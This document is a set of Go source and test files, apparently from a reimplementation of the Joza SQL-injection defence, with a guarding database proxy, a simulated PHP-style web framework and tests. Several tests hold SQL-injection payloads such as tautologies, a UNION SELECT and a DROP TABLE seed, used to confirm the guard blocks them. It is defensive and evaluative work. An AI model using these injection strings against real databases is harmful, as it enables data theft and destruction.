		p.mu.Lock()
		if p.closed {
			p.mu.Unlock()
			_ = conn.Close()
			return net.ErrClosed
		}
		p.conns[conn] = struct{}{}
		p.wg.Add(1)
		p.mu.Unlock()
		go func() {
			defer p.wg.Done()
			p.handle(conn)
			p.mu.Lock()
			delete(p.conns, conn)
			p.mu.Unlock()
		}()
	}
}

// Close stops the proxy and waits for in-flight connections.
func (p *Proxy) Close() error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return nil
	}
	p.closed = true
	ln := p.ln
	for c := range p.conns {
		_ = c.Close()
	}
	p.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	p.wg.Wait()
	return err
}

// Stats returns how many queries the proxy blocked and passed.
func (p *Proxy) Stats() (blocked, passed uint64) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.blockedCount, p.passedCount
}

func (p *Proxy) handle(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	dec := json.NewDecoder(bufio.NewReader(conn))
	enc := json.NewEncoder(conn)
	for {
		var req minidb.Request
		if err := dec.Decode(&req); err != nil {
			return
		}
		resp := p.process(&req)
		if err := enc.Encode(resp); err != nil {
			return
		}
	}
}

// process applies the guard, then forwards or blocks.
func (p *Proxy) process(req *minidb.Request) *minidb.Response {
	inputs := make([]joza.Input, len(req.Inputs))
	for i, in := range req.Inputs {
		inputs[i] = joza.Input{Source: in.Source, Name: in.Name, Value: in.Value}
	}
	if err := p.guard.Authorize(req.Query, inputs); err != nil {
		p.mu.Lock()
		p.blockedCount++
		p.mu.Unlock()
		if p.guard.Policy() == joza.PolicyErrorVirtualize {
			// Error virtualization: look like an ordinary failed query.
			return &minidb.Response{Error: "query failed"}
		}
		return &minidb.Response{Blocked: true}
	}
	p.mu.Lock()
	p.passedCount++
	p.mu.Unlock()
	return p.backend.Execute(req)
}
