// Package proxy deploys Joza as a database proxy: it speaks the minidb
// wire protocol on the front, checks every query with the hybrid guard,
// and forwards safe queries to the backing database. This is the natural
// Go deployment of the paper's architecture — instead of wrapping PHP's
// mysql_* functions, the interception point is the database connection
// itself. Requests carry the originating HTTP request's raw inputs so the
// NTI component can correlate them with the query.
package proxy

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"joza"
	"joza/internal/guardrail"
	"joza/internal/minidb"
)

// Backend executes requests that passed the guard. ctx is the
// per-connection context: it ends when the proxy shuts down or the
// requesting client disconnects, and a backend should stop waiting on its
// upstream when it does.
type Backend interface {
	Execute(ctx context.Context, req *minidb.Request) *minidb.Response
}

// LocalBackend executes against an in-process database.
type LocalBackend struct {
	DB *minidb.DB
}

var _ Backend = LocalBackend{}

// Execute implements Backend. The in-process engine is fast enough that
// ctx is not consulted mid-statement.
func (b LocalBackend) Execute(_ context.Context, req *minidb.Request) *minidb.Response {
	return minidb.ExecuteRequest(b.DB, req)
}

// Defaults for RemoteBackend's connection pool.
const (
	defaultRemotePoolSize    = 4
	defaultRemoteDialTimeout = 2 * time.Second
)

// upstreamConn pairs a wire client with its raw connection so Execute can
// slam a deadline on cancellation (the client itself blocks in a read).
type upstreamConn struct {
	conn   net.Conn
	client *minidb.Client
}

// RemoteBackend forwards to an upstream minidb server over TCP through a
// fixed-size connection pool, mirroring the daemon transport's Pool:
// concurrent requests proceed in parallel instead of serializing on a
// single connection's mutex, dialing is lazy, and a connection broken by
// an upstream restart is discarded so the next request redials instead of
// poisoning the backend.
type RemoteBackend struct {
	addr        string
	dialTimeout time.Duration
	// slots holds the pool's connections; a nil entry is an empty slot
	// dialed on first use or after its connection broke.
	slots chan *upstreamConn
	done  chan struct{}
	once  sync.Once

	dials atomic.Uint64
}

var _ Backend = (*RemoteBackend)(nil)

// RemoteOption configures a RemoteBackend.
type RemoteOption func(*RemoteBackend)

// WithPoolSize sets the number of pooled upstream connections — the
// backend's request concurrency (default 4).
func WithPoolSize(n int) RemoteOption {
	return func(b *RemoteBackend) {
		if n > 0 {
			b.slots = make(chan *upstreamConn, n)
		}
	}
}

// WithDialTimeout bounds one upstream dial (default 2s).
func WithDialTimeout(d time.Duration) RemoteOption {
	return func(b *RemoteBackend) {
		if d > 0 {
			b.dialTimeout = d
		}
	}
}

// NewRemoteBackend returns a pooled backend that lazily connects to addr.
func NewRemoteBackend(addr string, opts ...RemoteOption) *RemoteBackend {
	b := &RemoteBackend{
		addr:        addr,
		dialTimeout: defaultRemoteDialTimeout,
		done:        make(chan struct{}),
	}
	for _, o := range opts {
		o(b)
	}
	if b.slots == nil {
		b.slots = make(chan *upstreamConn, defaultRemotePoolSize)
	}
	for i := 0; i < cap(b.slots); i++ {
		b.slots <- nil
	}
	return b
}

// Dials returns how many upstream connections the backend has
// established; a value above the pool size means broken connections have
// been replaced.
func (b *RemoteBackend) Dials() uint64 { return b.dials.Load() }

// Execute implements Backend. It runs the request over a pooled
// connection: a broken connection is discarded and replaced once (a
// pooled connection may have gone stale since its last use), and ctx
// aborts both the wait for a free slot and a blocked upstream round trip.
func (b *RemoteBackend) Execute(ctx context.Context, req *minidb.Request) *minidb.Response {
	var slot *upstreamConn
	select {
	case slot = <-b.slots:
	case <-b.done:
		return &minidb.Response{Error: "upstream pool closed"}
	case <-ctx.Done():
		return &minidb.Response{Error: fmt.Sprintf("upstream: %v", ctx.Err())}
	}
	// Always return the slot — nil after a failure, so the next request
	// redials lazily. Close drains exactly cap(slots) entries and closes
	// whatever connections it receives, so a request finishing late hands
	// its connection to Close rather than leaking it.
	defer func() { b.slots <- slot }()
	for attempt := 0; ; attempt++ {
		if slot == nil {
			conn, err := net.DialTimeout("tcp", b.addr, b.dialTimeout)
			if err != nil {
				return &minidb.Response{Error: fmt.Sprintf("upstream unavailable: %v", err)}
			}
			b.dials.Add(1)
			slot = &upstreamConn{conn: conn, client: minidb.NewClient(conn)}
		}
		// A canceled ctx slams the connection's deadline so the blocked
		// read returns immediately; the connection is then discarded.
		stop := context.AfterFunc(ctx, func() {
			_ = slot.conn.SetDeadline(time.Unix(1, 0))
		})
		res, err := slot.client.QueryWithInputs(req.Query, nil)
		stop()
		if err == nil {
			return &minidb.Response{
				Columns:  res.Columns,
				Rows:     res.Rows,
				Affected: res.Affected,
				DelayMs:  res.Delay.Seconds() * 1000,
			}
		}
		// Database errors ride a healthy stream; pass them through.
		var ee *minidb.ExecError
		if errors.As(err, &ee) {
			return &minidb.Response{Error: ee.Msg}
		}
		// Transport error: the stream may hold a stray late reply, so the
		// connection cannot be reused.
		_ = slot.client.Close()
		slot = nil
		if cerr := ctx.Err(); cerr != nil {
			return &minidb.Response{Error: fmt.Sprintf("upstream: %v", cerr)}
		}
		if attempt > 0 {
			return &minidb.Response{Error: fmt.Sprintf("upstream: %v", err)}
		}
		// First failure on a pooled connection: it likely went stale
		// between requests (upstream restart); retry once on a fresh dial.
	}
}

// Close closes the pool: it reclaims and closes all pooled connections,
// waiting for in-flight requests to hand theirs back.
func (b *RemoteBackend) Close() error {
	var err error
	b.once.Do(func() {
		close(b.done)
		for i := 0; i < cap(b.slots); i++ {
			if c := <-b.slots; c != nil {
				if cerr := c.client.Close(); cerr != nil && err == nil {
					err = cerr
				}
			}
		}
	})
	return err
}

// Proxy is a Joza-guarded minidb wire server.
type Proxy struct {
	guard   *joza.Guard
	backend Backend
	gate    *guardrail.Gate

	// draining makes connection handlers stop picking up new requests;
	// set by Shutdown before it waits for in-flight work. drainCh wakes
	// handlers idling between requests.
	draining atomic.Bool
	drainCh  chan struct{}

	mu     sync.Mutex
	ln     net.Listener
	conns  map[net.Conn]struct{}
	wg     sync.WaitGroup
	closed bool

	blockedCount uint64
	passedCount  uint64
	shedCount    atomic.Uint64
}

// Option configures a Proxy.
type Option func(*Proxy)

// WithAdmission bounds how many requests the proxy processes concurrently
// — check plus backend execution: at most limit in flight, with excess
// requests waiting up to maxWait for a slot before being shed with an
// "overloaded" error response on a healthy connection. limit <= 0 (the
// default) disables admission control.
func WithAdmission(limit int, maxWait time.Duration) Option {
	return func(p *Proxy) { p.gate = guardrail.NewGate(limit, maxWait) }
}

// New returns a proxy that checks queries with guard before handing them
// to backend.
func New(guard *joza.Guard, backend Backend, opts ...Option) *Proxy {
	p := &Proxy{
		guard:   guard,
		backend: backend,
		conns:   make(map[net.Conn]struct{}),
		drainCh: make(chan struct{}),
	}
	for _, o := range opts {
		o(p)
	}
	return p
}

// Serve accepts client connections until Close.
func (p *Proxy) Serve(ln net.Listener) error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return net.ErrClosed
	}
	p.ln = ln
	p.mu.Unlock()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		p.mu.Lock()
		if p.closed {
			p.mu.Unlock()
			_ = conn.Close()
			return net.ErrClosed
		}
		p.conns[conn] = struct{}{}
		p.wg.Add(1)
		p.mu.Unlock()
		go func() {
			defer p.wg.Done()
			p.handle(conn)
			p.mu.Lock()
			delete(p.conns, conn)
			p.mu.Unlock()
		}()
	}
}

// Shutdown drains the proxy: it stops accepting connections, lets every
// handler finish the request it is serving, and waits up to ctx's
// deadline before force-closing stragglers. Returns nil on a clean drain
// and ctx's error when the deadline forced the close; either way the
// proxy is fully stopped on return.
func (p *Proxy) Shutdown(ctx context.Context) error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return nil
	}
	p.closed = true
	ln := p.ln
	p.draining.Store(true)
	close(p.drainCh)
	for c := range p.conns {
		// Fail reads parked waiting for the next request; a handler
		// mid-request is unaffected and exits after replying.
		_ = c.SetReadDeadline(time.Unix(1, 0))
	}
	p.mu.Unlock()
	if ln != nil {
		_ = ln.Close()
	}
	done := make(chan struct{})
	go func() {
		p.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		p.mu.Lock()
		for c := range p.conns {
			_ = c.Close()
		}
		p.mu.Unlock()
		<-done
		return ctx.Err()
	}
}

// Close stops the proxy and waits for in-flight connections.
func (p *Proxy) Close() error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return nil
	}
	p.closed = true
	ln := p.ln
	for c := range p.conns {
		_ = c.Close()
	}
	p.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	p.wg.Wait()
	return err
}

// Stats returns how many queries the proxy blocked and passed.
func (p *Proxy) Stats() (blocked, passed uint64) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.blockedCount, p.passedCount
}

// Shed returns how many requests admission control rejected (zero unless
// WithAdmission is configured).
func (p *Proxy) Shed() uint64 { return p.shedCount.Load() }

// handle serves one client connection. Decoding runs in its own
// goroutine so a client that disconnects mid-query cancels the
// connection context — and with it the in-flight check and upstream round
// trip — instead of leaving them running for a caller that is gone.
func (p *Proxy) handle(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	dec := json.NewDecoder(bufio.NewReader(conn))
	enc := json.NewEncoder(conn)
	reqs := make(chan *minidb.Request)
	go func() {
		for {
			req := new(minidb.Request)
			if err := dec.Decode(req); err != nil {
				// EOF, malformed stream, the connection closed under us, or
				// Shutdown slamming the read deadline: the client is done
				// sending. While draining, the in-flight request must still
				// finish, so the connection context stays live and the
				// handler exits through drainCh instead.
				if !p.draining.Load() {
					cancel()
				}
				return
			}
			select {
			case reqs <- req:
			case <-ctx.Done():
				return
			case <-p.drainCh:
				return
			}
		}
	}()
	for {
		select {
		case req := <-reqs:
			resp := p.process(ctx, req)
			if err := enc.Encode(resp); err != nil {
				return
			}
			if p.draining.Load() {
				return
			}
		case <-ctx.Done():
			return
		case <-p.drainCh:
			return
		}
	}
}

// process applies admission control and the guard, then forwards or
// blocks.
func (p *Proxy) process(ctx context.Context, req *minidb.Request) *minidb.Response {
	if err := p.gate.Acquire(ctx); err != nil {
		if errors.Is(err, guardrail.ErrOverloaded) {
			p.shedCount.Add(1)
			return &minidb.Response{Error: "overloaded: " + err.Error()}
		}
		return &minidb.Response{Error: fmt.Sprintf("check aborted: %v", err)}
	}
	defer p.gate.Release()
	inputs := make([]joza.Input, len(req.Inputs))
	for i, in := range req.Inputs {
		inputs[i] = joza.Input{Source: in.Source, Name: in.Name, Value: in.Value}
	}
	if err := p.guard.AuthorizeContextAt(ctx, req.Site, req.Query, inputs); err != nil {
		var ae *joza.AttackError
		if !errors.As(err, &ae) {
			// The check was canceled (client disconnect, shutdown): the
			// query was neither authorized nor blocked, and the client is
			// not listening for this response anyway.
			return &minidb.Response{Error: fmt.Sprintf("check aborted: %v", err)}
		}
		p.mu.Lock()
		p.blockedCount++
		p.mu.Unlock()
		if p.guard.Policy() == joza.PolicyErrorVirtualize {
			// Error virtualization: look like an ordinary failed query.
			return &minidb.Response{Error: "query failed"}
		}
		return &minidb.Response{Blocked: true}
	}
	p.mu.Lock()
	p.passedCount++
	p.mu.Unlock()
	return p.backend.Execute(ctx, req)
}
