package proxy

import (
	"context"
	"errors"
	"net"
	"testing"

	"joza"
	"joza/internal/minidb"
)

const appSource = `<?php
$q = "SELECT id, title FROM posts WHERE id=$id LIMIT 5";
$q2 = "SELECT id, title FROM missing WHERE id=$id";
`

func newDB(t *testing.T) *minidb.DB {
	t.Helper()
	db := minidb.New("app")
	db.MustExec("CREATE TABLE posts (id INT, title TEXT)")
	db.MustExec("INSERT INTO posts VALUES (1, 'Hello'), (2, 'World')")
	return db
}

func newGuard(t *testing.T, opts ...joza.Option) *joza.Guard {
	t.Helper()
	base := []joza.Option{joza.WithFragments(joza.FragmentsFromSource(appSource))}
	g, err := joza.New(append(base, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// startProxy starts a proxy over the backend and returns its address.
func startProxy(t *testing.T, p *Proxy) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = p.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = p.Close()
		<-done
	})
	return ln.Addr().String()
}

func TestProxyPassesBenign(t *testing.T) {
	p := New(newGuard(t), LocalBackend{DB: newDB(t)})
	addr := startProxy(t, p)
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	res, err := c.QueryWithInputs("SELECT id, title FROM posts WHERE id=1 LIMIT 5",
		[]minidb.WireInput{{Source: "get", Name: "id", Value: "1"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][1] != "Hello" {
		t.Errorf("rows = %v", res.Rows)
	}
	if blocked, passed := p.Stats(); blocked != 0 || passed != 1 {
		t.Errorf("stats = %d, %d", blocked, passed)
	}
}

func TestProxyBlocksAttack(t *testing.T) {
	p := New(newGuard(t), LocalBackend{DB: newDB(t)})
	addr := startProxy(t, p)
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	payload := "-1 OR 1=1"
	_, err = c.QueryWithInputs("SELECT id, title FROM posts WHERE id="+payload+" LIMIT 5",
		[]minidb.WireInput{{Source: "get", Name: "id", Value: payload}})
	if !errors.Is(err, minidb.ErrBlocked) {
		t.Fatalf("err = %v, want ErrBlocked", err)
	}
	if blocked, _ := p.Stats(); blocked != 1 {
		t.Errorf("blocked = %d", blocked)
	}
}

func TestProxyBlocksSecondOrderWithoutInputs(t *testing.T) {
	// No inputs accompany the query (second-order); PTI still blocks.
	p := New(newGuard(t), LocalBackend{DB: newDB(t)})
	addr := startProxy(t, p)
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, err = c.Query("SELECT id, title FROM posts WHERE id=1 OR 1=1 -- LIMIT 5")
	if !errors.Is(err, minidb.ErrBlocked) {
		t.Fatalf("err = %v, want ErrBlocked", err)
	}
}

func TestProxyErrorVirtualization(t *testing.T) {
	g := newGuard(t, joza.WithPolicy(joza.PolicyErrorVirtualize))
	p := New(g, LocalBackend{DB: newDB(t)})
	addr := startProxy(t, p)
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	payload := "-1 OR 1=1"
	_, err = c.QueryWithInputs("SELECT id, title FROM posts WHERE id="+payload,
		[]minidb.WireInput{{Source: "get", Name: "id", Value: payload}})
	var ee *minidb.ExecError
	if !errors.As(err, &ee) {
		t.Fatalf("err = %v (%T), want database-style error", err, err)
	}
	if errors.Is(err, minidb.ErrBlocked) {
		t.Error("error virtualization must not reveal blocking")
	}
}

func TestProxyRemoteBackend(t *testing.T) {
	// Full chain: client -> proxy -> upstream minidb server.
	db := newDB(t)
	upstreamLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	upstream := minidb.NewServer(db)
	upDone := make(chan struct{})
	go func() {
		defer close(upDone)
		_ = upstream.Serve(upstreamLn)
	}()
	t.Cleanup(func() {
		_ = upstream.Close()
		<-upDone
	})

	backend := NewRemoteBackend(upstreamLn.Addr().String())
	t.Cleanup(func() { _ = backend.Close() })
	p := New(newGuard(t), backend)
	addr := startProxy(t, p)

	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	res, err := c.QueryWithInputs("SELECT id, title FROM posts WHERE id=2 LIMIT 5",
		[]minidb.WireInput{{Source: "get", Name: "id", Value: "2"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][1] != "World" {
		t.Errorf("rows = %v", res.Rows)
	}

	// Attack through the full chain.
	payload := "-1 UNION SELECT title, title FROM posts"
	_, err = c.QueryWithInputs("SELECT id, title FROM posts WHERE id="+payload,
		[]minidb.WireInput{{Source: "get", Name: "id", Value: payload}})
	if !errors.Is(err, minidb.ErrBlocked) {
		t.Fatalf("err = %v, want ErrBlocked", err)
	}

	// Database errors on app-originated queries pass through unchanged.
	_, err = c.QueryWithInputs("SELECT id, title FROM missing WHERE id=1",
		[]minidb.WireInput{{Source: "get", Name: "id", Value: "1"}})
	var ee *minidb.ExecError
	if !errors.As(err, &ee) {
		t.Fatalf("err = %v, want ExecError", err)
	}
}

func TestRemoteBackendUpstreamDown(t *testing.T) {
	backend := NewRemoteBackend("127.0.0.1:1")
	resp := backend.Execute(context.Background(), &minidb.Request{Query: "SELECT 1"})
	if resp.Error == "" {
		t.Error("want upstream error")
	}
}

func TestProxyCloseIdempotent(t *testing.T) {
	p := New(newGuard(t), LocalBackend{DB: newDB(t)})
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if err := p.Serve(ln); err == nil {
		t.Error("Serve after Close should fail")
	}
}
