package proxy

import (
	"io"
	"net"
	"testing"
	"time"

	"joza"
	"joza/internal/minidb"
)

// FuzzProxyFrame throws arbitrary bytes at the proxy's frame decoder: no
// input may panic a connection handler or wedge it. Valid requests
// embedded in the garbage are checked and answered; everything else ends
// the connection cleanly.
func FuzzProxyFrame(f *testing.F) {
	f.Add([]byte("{\"query\":\"SELECT id, title FROM posts WHERE id=1 LIMIT 5\"}\n"))
	f.Add([]byte("{\"query\":\"SELECT id FROM posts WHERE id=1 OR 1=1\",\"inputs\":[{\"source\":\"get\",\"name\":\"id\",\"value\":\"1 OR 1=1\"}]}\n"))
	f.Add([]byte("{\"query\":"))
	f.Add([]byte("{\"inputs\":[{}]}\n{\"query\":\"DROP TABLE posts\"}\n"))
	f.Add([]byte{0xff, 0xfe, '{', '}', '\n'})
	guard, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(appSource)))
	if err != nil {
		f.Fatal(err)
	}
	db := minidb.New("app")
	if _, err := db.Exec("CREATE TABLE posts (id INT, title TEXT)"); err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		p := New(guard, LocalBackend{DB: db})
		clientSide, serverSide := net.Pipe()
		done := make(chan struct{})
		go func() {
			defer close(done)
			p.handle(serverSide)
		}()
		// Drain replies so the synchronous pipe never blocks the handler's
		// encoder.
		go func() { _, _ = io.Copy(io.Discard, clientSide) }()
		_ = clientSide.SetWriteDeadline(time.Now().Add(2 * time.Second))
		_, _ = clientSide.Write(data)
		_ = clientSide.Close()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Fatal("connection handler wedged on fuzz input")
		}
	})
}
