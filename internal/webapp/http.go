package webapp

import (
	"errors"
	"net/http"
	"strings"
)

// HTTPHandler adapts an App to net/http: the first path segment selects
// the plugin, query parameters become GET inputs, form fields POST inputs,
// and cookies/headers flow through. Blocked requests answer 403 with an
// empty body (the terminate policy's blank page); database-error pages
// answer 500.
func HTTPHandler(app *App) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		plugin := strings.Trim(r.URL.Path, "/")
		if plugin == "" {
			http.NotFound(w, r)
			return
		}
		req := &Request{
			Get:     map[string]string{},
			Post:    map[string]string{},
			Cookies: map[string]string{},
			Headers: map[string]string{},
		}
		for name, values := range r.URL.Query() {
			if len(values) > 0 {
				req.Get[name] = values[0]
			}
		}
		if err := r.ParseForm(); err == nil {
			for name, values := range r.PostForm {
				if len(values) > 0 {
					req.Post[name] = values[0]
				}
			}
		}
		for _, c := range r.Cookies() {
			req.Cookies[c.Name] = c.Value
		}
		for name := range r.Header {
			req.Headers[name] = r.Header.Get(name)
		}

		page, err := app.HandleContext(r.Context(), plugin, req)
		switch {
		case errors.Is(err, ErrNoSuchPlugin):
			http.NotFound(w, r)
		case err != nil:
			http.Error(w, "internal error", http.StatusInternalServerError)
		case page.Blocked:
			// Terminate policy: blank page.
			w.WriteHeader(http.StatusForbidden)
		case page.DBError:
			http.Error(w, page.Body, http.StatusInternalServerError)
		default:
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
			_, _ = w.Write([]byte(page.Body))
		}
	})
}
