// Package webapp is a miniature web-application framework standing in for
// PHP/WordPress in the Joza evaluation. It reproduces the properties the
// attacks and defenses depend on:
//
//   - inputs arrive through multiple sources (GET, POST, cookies, headers);
//   - the framework captures raw inputs at request entry (Joza's
//     preprocessing step) before any transformation;
//   - applications transform inputs — magic quotes, whitespace trimming,
//     base64 decoding — which is exactly what NTI-evading attacks exploit;
//   - functionality is extended by plugins, each with its own (pseudo-PHP)
//     source code from which PTI extracts trusted fragments;
//   - all database calls go through a wrapper that consults the Joza guard
//     before forwarding to the database.
package webapp

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"sort"
	"strings"
	"time"

	"joza"
	"joza/internal/minidb"
)

// Request carries the inputs of one simulated HTTP request.
type Request struct {
	Get     map[string]string
	Post    map[string]string
	Cookies map[string]string
	Headers map[string]string
}

// Inputs flattens the request into Joza input records (raw values, exactly
// as received — this is what Joza's preprocessing component stores).
func (r *Request) Inputs() []joza.Input {
	var out []joza.Input
	appendSrc := func(source string, m map[string]string) {
		keys := make([]string, 0, len(m))
		for k := range m {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			out = append(out, joza.Input{Source: source, Name: k, Value: m[k]})
		}
	}
	appendSrc("get", r.Get)
	appendSrc("post", r.Post)
	appendSrc("cookie", r.Cookies)
	appendSrc("header", r.Headers)
	return out
}

// Transform is an input transformation applied by the application before
// the value reaches query construction.
type Transform func(string) string

// MagicQuotes reproduces PHP's magic_quotes_gpc / addslashes: single
// quotes, double quotes, backslashes and NUL bytes are escaped with a
// backslash. WordPress enforces this on all request input.
func MagicQuotes(s string) string {
	var sb strings.Builder
	sb.Grow(len(s))
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'', '"', '\\':
			sb.WriteByte('\\')
			sb.WriteByte(s[i])
		case 0:
			sb.WriteString(`\0`)
		default:
			sb.WriteByte(s[i])
		}
	}
	return sb.String()
}

// TrimWhitespace trims leading and trailing whitespace, as WordPress does
// for authenticated users' input.
func TrimWhitespace(s string) string { return strings.TrimSpace(s) }

// Base64Decode decodes base64 input, returning the input unchanged when it
// is not valid base64 (the common lenient application behaviour).
func Base64Decode(s string) string {
	if b, err := base64.StdEncoding.DecodeString(s); err == nil {
		return string(b)
	}
	return s
}

// Base64Encode is the attacker-side counterpart of Base64Decode.
func Base64Encode(s string) string {
	return base64.StdEncoding.EncodeToString([]byte(s))
}

// Page is the outcome of handling one request.
type Page struct {
	// Body is the rendered output. A terminated request has an empty body,
	// matching Joza's default blank-page behaviour.
	Body string
	// Rows is the number of database rows the page rendered; blind
	// exploits observe this through the body, the harness reads it
	// directly.
	Rows int
	// DBError is set when the page rendered a database-error path.
	DBError bool
	// Blocked is set when Joza blocked a query during the request.
	Blocked bool
	// Delay is the total virtual time the database spent in SLEEP/
	// BENCHMARK during the request; double-blind exploits observe it.
	Delay time.Duration
	// Queries counts database statements issued (including blocked ones).
	Queries int
}

// Querier abstracts the database connection: a local *minidb.DB or a wire
// client (possibly through a Joza proxy).
type Querier interface {
	Query(q string) (*minidb.Result, error)
}

// dbQuerier adapts *minidb.DB to Querier.
type dbQuerier struct{ db *minidb.DB }

func (d dbQuerier) Query(q string) (*minidb.Result, error) { return d.db.Exec(q) }

// Handler is plugin code: it reads inputs from the Ctx, issues queries via
// Ctx.Query, and returns the page body.
type Handler func(c *Ctx) (string, error)

// Plugin is one installable application extension.
type Plugin struct {
	// Name identifies the plugin (used as the route).
	Name string
	// Source is the plugin's pseudo-PHP source code; the Joza installer
	// extracts trusted fragments from it.
	Source string
	// Handle services a request.
	Handle Handler
}

// App hosts plugins over a shared database, optionally protected by a Joza
// guard.
type App struct {
	db      Querier
	guard   *joza.Guard
	plugins map[string]*Plugin
	// transforms are applied, in order, by Ctx input accessors — the
	// application-wide input munging (e.g. WordPress magic quotes).
	transforms []Transform
	// coreSource is the pseudo-PHP source of the "core framework"; its
	// fragments join every plugin's fragments in the guard's set.
	coreSource string
}

// AppOption configures an App.
type AppOption func(*App)

// WithGuard protects the app with g. A nil guard leaves the app
// unprotected (the "plain" configuration of the performance evaluation).
func WithGuard(g *joza.Guard) AppOption {
	return func(a *App) { a.guard = g }
}

// WithTransforms sets the application-wide input transformations applied
// by Ctx accessors in order.
func WithTransforms(ts ...Transform) AppOption {
	return func(a *App) { a.transforms = ts }
}

// WithCoreSource sets the framework core's pseudo-PHP source.
func WithCoreSource(src string) AppOption {
	return func(a *App) { a.coreSource = src }
}

// NewApp creates an App over db.
func NewApp(db *minidb.DB, opts ...AppOption) *App {
	a := &App{db: dbQuerier{db: db}, plugins: make(map[string]*Plugin)}
	for _, o := range opts {
		o(a)
	}
	return a
}

// NewAppWithQuerier creates an App over an arbitrary query transport (used
// with the wire client / proxy deployments).
func NewAppWithQuerier(q Querier, opts ...AppOption) *App {
	a := &App{db: q, plugins: make(map[string]*Plugin)}
	for _, o := range opts {
		o(a)
	}
	return a
}

// Install registers plugins.
func (a *App) Install(plugins ...*Plugin) {
	for _, p := range plugins {
		a.plugins[p.Name] = p
	}
}

// Plugins returns the installed plugin names, sorted.
func (a *App) Plugins() []string {
	out := make([]string, 0, len(a.plugins))
	for name := range a.plugins {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// AllSources returns the core source plus every plugin source — the corpus
// the Joza installer parses for fragments.
func (a *App) AllSources() []string {
	srcs := []string{a.coreSource}
	for _, name := range a.Plugins() {
		srcs = append(srcs, a.plugins[name].Source)
	}
	return srcs
}

// FragmentTexts extracts the trusted fragment texts from all sources.
func (a *App) FragmentTexts() []string {
	var out []string
	for _, src := range a.AllSources() {
		out = append(out, joza.FragmentsFromSource(src)...)
	}
	return out
}

// ErrNoSuchPlugin is returned by Handle for unknown routes.
var ErrNoSuchPlugin = errors.New("webapp: no such plugin")

// Handle services one request against the named plugin and returns the
// resulting page. It is the context-free wrapper around HandleContext.
func (a *App) Handle(plugin string, req *Request) (*Page, error) {
	return a.HandleContext(context.Background(), plugin, req)
}

// HandleContext services one request bounded by ctx: guard checks issued
// through Ctx.Query observe ctx's deadline and cancellation (the HTTP
// adapter passes the request context, so a client disconnect aborts an
// in-flight check).
func (a *App) HandleContext(ctx context.Context, plugin string, req *Request) (*Page, error) {
	p, ok := a.plugins[plugin]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoSuchPlugin, plugin)
	}
	c := &Ctx{app: a, ctx: ctx, req: req, page: &Page{}, site: "plugin:" + plugin}
	// Preprocessing: preserve raw inputs for NTI before the application
	// transforms them.
	c.rawInputs = req.Inputs()
	body, err := p.Handle(c)
	page := c.page
	if err != nil {
		var ae *joza.AttackError
		if errors.As(err, &ae) {
			// Termination policy: blank page.
			page.Blocked = true
			page.Body = ""
			return page, nil
		}
		var ee *minidb.ExecError
		if errors.As(err, &ee) {
			page.DBError = true
			page.Body = "Database error"
			return page, nil
		}
		return nil, err
	}
	page.Body = body
	return page, nil
}

// Ctx is the per-request context passed to plugin handlers.
type Ctx struct {
	app       *App
	ctx       context.Context
	req       *Request
	rawInputs []joza.Input
	page      *Page
	// site is the call-site identity stamped on guard checks issued by
	// Query ("plugin:<name>"), keying the query-skeleton profile stage.
	site string
}

// Context returns the request's context.Context.
func (c *Ctx) Context() context.Context { return c.ctx }

// transformed applies the app-wide transforms to a raw value.
func (c *Ctx) transformed(v string) string {
	for _, t := range c.app.transforms {
		v = t(v)
	}
	return v
}

// Get returns the (transformed) GET parameter.
func (c *Ctx) Get(name string) string { return c.transformed(c.req.Get[name]) }

// Post returns the (transformed) POST parameter.
func (c *Ctx) Post(name string) string { return c.transformed(c.req.Post[name]) }

// Cookie returns the (transformed) cookie value.
func (c *Ctx) Cookie(name string) string { return c.transformed(c.req.Cookies[name]) }

